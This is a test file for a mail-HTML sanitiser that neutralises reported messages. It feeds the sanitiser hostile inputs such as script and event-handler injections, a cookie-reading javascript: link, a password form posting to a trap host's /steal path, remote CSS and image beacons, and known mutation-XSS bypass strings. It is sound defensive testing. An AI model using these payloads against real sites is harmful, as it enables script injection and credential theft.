// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { defangTarget, MAIL_HTML_CLASSES, sanitiseMailHtml } from './mail-html';

/**
 * The sanitiser of a reported mail's HTML version, on hostile input: nothing
 * that could run, fetch, submit or restyle the page survives, links are text
 * with their defanged target, and what was blocked is counted. Runs on jsdom;
 * test/e2e/hostile-report.test.ts checks the same in Chromium.
 */
const TRAP = 'http://198.51.100.7:8080';
const labels = { blockedImage: 'image blocked' };
const clean = (html: string) => sanitiseMailHtml(html, labels);
/** A 1×1 transparent PNG. */
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

/** Everything a result must never hold, checked on the DOM the browser would build from it. */
function assertInert(html: string): void {
  const box = document.createElement('div');
  box.innerHTML = html;
  for (const el of box.querySelectorAll('*')) {
    expect(['script', 'style', 'link', 'meta', 'base', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'a', 'area', 'video', 'audio', 'source', 'template', 'noscript']).not.toContain(el.localName);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of el.getAttributeNames()) {
      expect(attr).not.toMatch(/^on|^(style|href|xlink:href|srcset|background|poster|action|formaction|data|id|name|target)$/);
      if (attr === 'src') expect(el.getAttribute('src')).toMatch(/^data:image\/(png|gif|jpeg|webp);base64,/);
      if (attr === 'class') expect(Object.values(MAIL_HTML_CLASSES)).toContain(el.getAttribute('class'));
    }
  }
  expect(html).not.toContain('198.51.100.7');
  expect(html).not.toMatch(/javascript:(?!window\.__pwned|alert)/i);
}

describe('sanitiseMailHtml', () => {
  it('drops scripts and event handlers, keeping the text', () => {
    const r = clean('<p>Invoice</p><script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2"><div onclick="alert(1)" onmouseover="alert(2)">hover</div>');
    assertInert(r.html);
    expect(r.html).not.toContain('__pwned');
    expect(r.html).toContain('<p>Invoice</p>');
    expect(r.html).toContain('<div>hover</div>');
    // "x" is relative: shown as written it would be fetched from Renkei's own origin.
    expect(r.blockedRemote).toBe(1);
  });

  it('makes links text with their target defanged, javascript: links included', () => {
    const r = clean(
      `<a href="https://login.bank.example.evil.example/jp/?id=1">https://www.bank.example/</a> <a href="javascript:alert(document.cookie)">click me</a> <a href="mailto:abuse@evil.example">mail</a> <a name="top">anchor</a>`,
    );
    assertInert(r.html);
    expect(r.links).toBe(3);
    const box = document.createElement('div');
    box.innerHTML = r.html;
    const targets = [...box.querySelectorAll(`.${MAIL_HTML_CLASSES.target}`)].map((e) => e.textContent);
    expect(targets).toEqual(['⟨hxxps://login[.]bank[.]example[.]evil[.]example/jp/?id=1⟩', '⟨javascript:alert(document.cookie)⟩', '⟨mailto:abuse[@]evil[.]example⟩']);
    expect([...box.querySelectorAll(`.${MAIL_HTML_CLASSES.link}`)].map((e) => e.textContent)).toEqual(['https://www.bank.example/', 'click me', 'mail']);
    expect(box.textContent).toContain('anchor');
  });

  it('removes style elements and attributes, counting their remote url()s and imports', () => {
    const r = clean(
      `<style>@import url(${TRAP}/import.css); @import "${TRAP}/quoted.css"; body { background: url('${TRAP}/bg.png') } p { background: url(data:image/png;base64,AAAA) }</style>` +
        `<div style="background-image: url(${TRAP}/inline.png); color: red">styled</div><p style="font: 9px expression(alert(1))">old IE</p>`,
    );
    assertInert(r.html);
    expect(r.html).not.toMatch(/@import|url\(|expression|color: red/);
    expect(r.html).toContain('<div>styled</div>');
    expect(r.blockedRemote).toBe(4);
  });

  it('blocks remote images, srcset and background attributes, and keeps embedded pictures', () => {
    const r = clean(
      `<img src="${TRAP}/track.png" alt="logo" width="1" height="1"><img src="//198.51.100.7/proto.png"><img src="cid:part1@example"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><img src="${PNG}" srcset="${TRAP}/a.png 1x, ${TRAP}/b.png 2x" alt="embedded">` +
        `<table background="${TRAP}/table.png"><tr><td background="${TRAP}/cell.png">cell</td></tr></table><video poster="${TRAP}/poster.png"></video>`,
    );
    assertInert(r.html);
    // track.png, proto.png, srcset, table and cell backgrounds, poster; cid: and data: are inside the mail.
    expect(r.blockedRemote).toBe(6);
    const box = document.createElement('div');
    box.innerHTML = r.html;
    expect([...box.querySelectorAll('img')].map((i) => [i.getAttribute('src'), i.getAttribute('alt')])).toEqual([[PNG, 'embedded']]);
    expect([...box.querySelectorAll(`.${MAIL_HTML_CLASSES.blocked}`)].map((e) => e.textContent)).toEqual(['[image blocked: logo]', '[image blocked]', '[image blocked]', '[image blocked]']);
    expect(box.textContent).toContain('cell');
  });

  it('drops SVG and MathML with what they hold', () => {
    const r = clean(
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>svg text</text></a><image href="http://198.51.100.7/svg.png"/></svg>' +
        '<math><mi xlink:href="javascript:alert(4)">math</mi></math><p>after</p>',
    );
    assertInert(r.html);
    expect(r.html).toBe('<p>after</p>');
    expect(r.blockedRemote).toBe(1);
  });

  it('drops forms and their controls, keeping their visible text', () => {
    const r = clean(`<form action="${TRAP}/steal" method="post"><label>Password <input type="password" name="pw"></label><input type="image" src="${TRAP}/go.png"><button formaction="${TRAP}/b">Log in</button><textarea>typed</textarea><select><option>one</option></select></form>`);
    assertInert(r.html);
    expect(r.html).not.toMatch(/<form|<input|<button|<textarea|<select|<label/);
    expect(r.html).toContain('Log in');
    expect(r.blockedRemote).toBe(1);
  });

  it('drops frames, objects, embeds, links, meta refresh and base', () => {
    const r = clean(
      `<meta http-equiv="refresh" content="0;url=${TRAP}/refresh"><base href="${TRAP}/"><link rel="stylesheet" href="${TRAP}/link.css">` +
        `<iframe src="${TRAP}/frame" srcdoc="<script>alert(1)</script>"></iframe><object data="${TRAP}/object.swf"></object><embed src="${TRAP}/embed.swf"><p>body</p>`,
    );
    assertInert(r.html);
    expect(r.html).toBe('<p>body</p>');
    // link, iframe, object, embed.
    expect(r.blockedRemote).toBe(4);
  });

  it('survives known mutation tricks and gives stable output', () => {
    for (const hostile of [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<a href="&#106;avascript:alert(1)">encoded</a><a href="java\tscript:alert(2)">tab</a>',
      '<div id="mail-link" class="mail-link-target">⟨hxxps://bank[.]example/⟩</div>',
    ]) {
      const r = clean(hostile);
      assertInert(r.html);
      expect(r.html).not.toMatch(/onerror|<img/);
      // What the page builds from the result serialises back to the same markup: no mutation on the way in.
      const box = document.createElement('div');
      box.innerHTML = r.html;
      expect(box.innerHTML, hostile).toBe(r.html);
    }
  });

  it('keeps the markup of an ordinary mail: paragraphs, lists, tables, emphasis and ruby', () => {
    const html = '<h1>お知らせ</h1><p>本文 <b>太字</b> <i>斜体</i></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">表</td></tr></tbody></table><ruby>漢<rt>かん</rt></ruby>';
    expect(clean(html)).toEqual({ html, blockedRemote: 0, links: 0 });
  });
});

describe('defangTarget', () => {
  it('defangs hosts, keeps paths, reveals direction controls and removes line breaks', () => {
    expect(defangTarget(' http://198.51.100.7:8080/a.b ')).toBe('hxxp://198.51.100[.]7:8080/a.b');
    expect(defangTarget('//evil.example/x')).toBe('//evil[.]example/x');
    expect(defangTarget('https://evil.example/\u202Eexe.pdf')).toBe('hxxps://evil[.]example/⟨U+202E⟩exe.pdf');
    expect(defangTarget('https://evil.\r\nexample/')).toBe('hxxps://evil[.]example/');
    expect(defangTarget(`https://evil.example/${'a'.repeat(600)}`)).toHaveLength('hxxps://evil[.]example/'.length + 500 - 'https://evil.example/'.length + 1);
  });
});
